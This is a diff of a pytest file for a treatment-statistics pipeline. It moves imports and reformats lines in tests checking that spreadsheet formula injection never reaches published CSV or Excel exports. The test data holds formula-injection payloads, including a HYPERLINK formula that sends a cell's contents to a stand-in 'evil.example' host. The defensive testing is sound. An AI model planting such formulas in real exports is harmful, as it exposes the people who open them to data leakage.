@@ -15,13 +15,13 @@ import pytest
 import yaml
 from openpyxl import load_workbook
 
-from treatment_marts.config import load_areas, load_rules
-from treatment_marts.exports import NATIONAL
+from treatment_marts.core.config import load_areas, load_rules
+from treatment_marts.core.settings import REPO_DIR, Settings
 from treatment_marts.marts import dimension_levels, load_marts
-from treatment_marts.publish import PublishError
-from treatment_marts.settings import REPO_DIR, Settings
-from treatment_marts.stages import publish, run_period
-from treatment_marts.synth import generate_extract, write_extract
+from treatment_marts.ops.synth import generate_extract, write_extract
+from treatment_marts.pipeline.stages import publish, run_period
+from treatment_marts.publish.exports import NATIONAL
+from treatment_marts.publish.release import PublishError
 
 PERIOD = "2024-03"
 EVIL_MALE = '=HYPERLINK("http://evil.example/?"&A1,"Male")'
@@ -49,14 +49,18 @@ def hostile_config(target: Path) -> Path:
 def run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Settings, dict]:
     base = tmp_path_factory.mktemp("e2e")
     settings = replace(Settings.from_env(data_root=base / "data"), config_dir=hostile_config(base / "config"))
-    extract = write_extract(generate_extract(PERIOD, clients=1000, areas=["Northton"], seed=7), base / "inbox" / "extract.csv")
+    extract = write_extract(
+        generate_extract(PERIOD, clients=1000, areas=["Northton"], seed=7), base / "inbox" / "extract.csv"
+    )
     return settings, run_period(settings, PERIOD, extract, run_id="e2e_1")
 
 
 def test_formula_labels_reach_the_marts_but_never_an_export_unescaped(run: tuple[Settings, dict]) -> None:
     settings, result = run
     mart = pd.read_parquet(settings.public_dir / "marts" / "in_treatment_substance_area_sex" / f"period={PERIOD}")
-    assert EVIL_MALE in set(mart["sex"])  # the mart keeps the configured label as data (SQL/Parquet are not spreadsheets)
+    assert EVIL_MALE in set(
+        mart["sex"]
+    )  # the mart keeps the configured label as data (SQL/Parquet are not spreadsheets)
     exports = Path(result["publish"]["exports"])
     csv_files, books = sorted((exports / "csv").glob("*.csv")), sorted(exports.glob("*.xlsx"))
     assert csv_files and books
@@ -73,7 +77,9 @@ def test_formula_labels_reach_the_marts_but_never_an_export_unescaped(run: tuple
             for row in sheet.iter_rows():
                 for cell in row:
                     assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
-                    assert not (isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(FORMULA_START)), cell.value
+                    assert not (isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(FORMULA_START)), (
+                        cell.value
+                    )
 
 
 def test_no_extract_text_reaches_an_export(run: tuple[Settings, dict]) -> None:
@@ -96,10 +102,10 @@ def test_no_extract_text_reaches_an_export(run: tuple[Settings, dict]) -> None:
 
 
 def test_a_formula_in_the_extract_stops_the_run_before_anything_is_published(tmp_path: Path) -> None:
-    from treatment_marts.validate import ValidationFailed
+    from treatment_marts.validation.gx_runner import ValidationFailed
 
     frame = generate_extract(PERIOD, clients=300, areas=["Northton"], seed=3)
-    frame.loc[frame.index[:3], "agency_code"] = "=HYPERLINK(\"http://evil\")"
+    frame.loc[frame.index[:3], "agency_code"] = '=HYPERLINK("http://evil")'
     frame.loc[frame.index[3:5], "dat_code"] = "@SUM"
     extract = write_extract(frame, tmp_path / "inbox" / "extract.csv")
     settings = Settings.from_env(data_root=tmp_path / "data")
@@ -119,7 +125,9 @@ def _tree(root: Path) -> dict[str, object]:
     return out
 
 
-def test_a_warehouse_that_is_down_fails_the_publish_stage_clearly_and_changes_nothing(run: tuple[Settings, dict]) -> None:
+def test_a_warehouse_that_is_down_fails_the_publish_stage_clearly_and_changes_nothing(
+    run: tuple[Settings, dict],
+) -> None:
     settings, result = run
     before_public = _tree(settings.public_dir)
     before_log = _tree(settings.restricted_dir / "suppression_log")
